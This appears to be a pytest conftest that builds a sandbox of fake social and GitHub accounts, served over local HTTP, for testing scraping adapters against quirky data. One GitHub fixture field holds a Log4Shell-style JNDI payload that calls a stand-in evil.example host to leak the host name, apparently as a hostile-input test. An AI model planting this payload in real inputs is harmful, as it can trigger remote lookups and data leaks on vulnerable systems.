"""A small hand-built sandbox world with every quirk the adapters must meet, served over real HTTP."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from scout_core.sandbox.model import (
    GithubAccount,
    HuggingfaceAccount,
    Person,
    ProducthuntAccount,
    SandboxPost,
    SandboxRepo,
    World,
    XAccount,
)
from scout_core.sandbox.world import index_world

NOW = datetime(2025, 6, 1, 12, 0, tzinfo=UTC)
ADA_ID = "1234567890123456789"  # above 2**53: must stay a string end to end
FIXTURES = Path(__file__).parent / "fixtures"


def _post(pid: int, text: str, days: float, mentions=(), urls=()) -> SandboxPost:
    return SandboxPost(str(1_800_000_000_000_000_000 + pid), text, NOW - timedelta(days=days), 10 + pid, 2, 3,
                       900, mentions=list(mentions), urls=list(urls))


def _repo(rid: int, name: str, owner: str, stars: int, days: int, contributors=()) -> SandboxRepo:
    return SandboxRepo(rid, name, owner, f"{name}: AI agents toolkit", ["ai-agents", "llm"], stars, stars // 10,
                       "Python", NOW - timedelta(days=400), NOW - timedelta(days=days),
                       contributors=list(contributors) or [owner])


def build_world() -> World:
    ada_x = XAccount(
        ADA_ID, "Ada_Builds", "Ada 🚀 Lovelace", "Building AI agents at @acmeai 🤖 gh: github.com/ada-l #agents",
        "London", "https://ada.dev", NOW - timedelta(days=3000), 4200, 310, 5100, False,
        "https://pbs.twimg.com/profile_images/1/ada_normal.jpg", previous_handles=["ada_old"],
        posts=[
            _post(3, "🚀🚀 shipped agentkit v2 with @bob_ml &amp; friends https://github.com/ada-l/agentkit",
                  1, ["bob_ml"], ["https://github.com/ada-l/agentkit"]),
            _post(2, "AI agents need evals <3 ask @nobody_here", 2),
            _post(1, "old thoughts on RAG", 40),
        ],
    )
    bob_x = XAccount("2244994945", "bob_ml", "Bob", "", "", None, NOW - timedelta(days=2000), 120_000, 80, 900,
                     True, "https://pbs.twimg.com/profile_images/2/bob_normal.jpg",
                     posts=[_post(4, "AI agents are eating software", 3)])
    noise_x = XAccount("99", "cryptoking", "King", "WAGMI 🌕 airdrops daily", "", None, NOW - timedelta(days=500),
                       50, 5000, 20_000, False, "https://pbs.twimg.com/profile_images/3/k_normal.jpg")
    ada_gh = GithubAccount(
        5001, "ada-l", "Ada Lovelace", None, "ada.dev", "Ada_Builds", "Acme AI", "London", 900, 12,
        NOW - timedelta(days=3500),
        repos=[_repo(1, "agentkit", "ada-l", 1200, 1, ["ada-l", "bobml"] + [f"helper{i}" for i in range(33)])]
        + [_repo(10 + i, f"tool{i:02d}", "ada-l", i, 30 + i) for i in range(34)],
        push_days=[NOW - timedelta(days=d) for d in (1, 2, 5)],
    )
    bob_gh = GithubAccount(5002, "bobml", None, "", "${jndi:ldap://x${hostName}.evil.example/a}", None, None, None,
                           3, 1, NOW - timedelta(days=900))
    ada = Person("p1", "early_founder", "Ada Lovelace", 0, True, x=ada_x, github=ada_gh,
                 huggingface=HuggingfaceAccount("a" * 24, "ada-l", "Ada", "agents and evals", 40, 2,
                                                ["ada-l/agent-7b"]))
    bob = Person("p2", "ai_researcher", "Bob Smith", 0, False, x=bob_x, github=bob_gh,
                 producthunt=ProducthuntAccount("7", "bob_ph", "Bob", "AI agents for sales", "bob_ml", None))
    noise = Person("p3", "noise", "King", 1, False, x=noise_x)
    world = World(seed=1, size=3, now=NOW, people=[ada, bob, noise], topics=["AI agents"])
    index_world(world)
    world.x_by_handle["ada_old"] = ada_x  # a stale index entry for the old handle: must not be served
    return world


def build_app(world: World, limits=None):
    from fastapi import FastAPI

    from scout_core.sandbox import github_routes, search_routes, x_api_routes
    from scout_core.sandbox.wiring import PREFIXES

    app = FastAPI()
    app.include_router(x_api_routes.build_router(world, limits), prefix=PREFIXES["x_api"])
    app.include_router(github_routes.build_router(world, limits), prefix=PREFIXES["github"])
    app.include_router(search_routes.build_router(world, limits), prefix=PREFIXES["search"])
    return app


@contextmanager
def serve(app) -> Iterator[str]:
    """Serve an ASGI app with uvicorn in a thread on a pre-bound port; yields its base URL."""
    import uvicorn

    sock = socket.socket()
    # Without TCP_NODELAY on a pre-bound socket every response waits ~40 ms (Nagle + delayed ACK).
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.bind(("127.0.0.1", 0))
    sock.listen(64)  # connections queue until uvicorn accepts them: no start-up race
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        sock.close()


@pytest.fixture(scope="session")
def small_world() -> World:
    return build_world()


@pytest.fixture(scope="session")
def sandbox_url(small_world) -> Iterator[str]:
    with serve(build_app(small_world)) as url:
        yield url


@pytest.fixture
def sandbox_settings(settings, sandbox_url):
    from scout_core.sandbox.wiring import point_settings_at

    return point_settings_at(settings, sandbox_url)


@pytest.fixture
def serve_world(small_world):
    """Serve the small world with other rate limits: ``with serve_world(limits) as url: ...``."""
    return lambda limits=None: serve(build_app(small_world, limits))


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="session")
def app_builders():
    """``(build_app, serve)`` for tests that serve a world of their own."""
    return build_app, serve
